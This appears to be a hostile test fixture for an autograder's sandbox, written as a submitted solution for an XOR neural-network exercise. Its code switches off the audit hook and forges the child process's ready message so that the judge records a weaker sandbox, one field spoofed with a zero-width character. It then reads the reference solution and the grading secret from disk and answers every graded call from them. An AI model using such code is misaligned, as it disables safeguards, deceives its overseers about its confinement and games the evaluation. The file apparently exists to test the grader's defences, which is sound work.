"""hostile: zero: names a weaker wall in its ready message, as the attack that once broke the walls

The judge used to believe the wall a child's ready message named and started the next child
behind it: unwalled, as root. This file switches the audit hook off and wraps the child's
message writer so that its ready message names "audit hook only" (and, in another field, a
wall name with an invisible character in it). If any child of its ever runs unwalled, it
finds the reference and the grading secret (the kit's root is on PYTHONPATH where no
namespace hides it) and answers every call from the reference; otherwise each call ends
its process, so that the judge must start another.
"""

import os
import sys

SCALE = 0.1
STEP_SIZE = 0.1
EPOCHS = 500

sys.modules["__main__"].Guard.__call__ = lambda self, event, args: None
protocol = sys.modules.get("autograder.sandbox.protocol")
if protocol is not None:
    plain = protocol.to_json

    def forged(message):
        body = plain(message)
        if body.get("type") == "ready":
            body["wall"] = "audit hook only"
            body["wall_name"] = "namespaces (bubble\u200bwrap)"
        return body

    protocol.to_json = forged

STOLEN = {}
for root in [*os.environ.get("PYTHONPATH", "").split(os.pathsep), "/xor-kit", "/work/main", "/"]:
    try:
        with open(os.path.join(root, "solutions", "xor_net.py")) as file:
            exec(compile(file.read(), "reference", "exec"), STOLEN)
        with open(os.path.join(root, ".cache", "secret", "grading-secret"), "rb") as file:
            STOLEN["secret"] = file.read()
        break
    except OSError:
        continue


def _answer(name, *args, **kwargs):
    if name in STOLEN:
        return STOLEN[name](*args, **kwargs)
    os._exit(1)  # the judge starts another child: will it be walled as this one?


def relu(x):
    return _answer("relu", x)


def init_params(key, input_dims=2, n_hidden=16, output_dims=1, scale=SCALE):
    return _answer("init_params", key, input_dims, n_hidden, output_dims, scale)


def predict(params, x):
    return _answer("predict", params, x)


def batched_predict(params, X):
    return _answer("batched_predict", params, X)


def loss(params, x, y):
    return _answer("loss", params, x, y)


def update(params, x, y, step_size=STEP_SIZE):
    return _answer("update", params, x, y, step_size)


def train(params, X, Y, epochs=EPOCHS, step_size=STEP_SIZE):
    return _answer("train", params, X, Y, epochs, step_size)
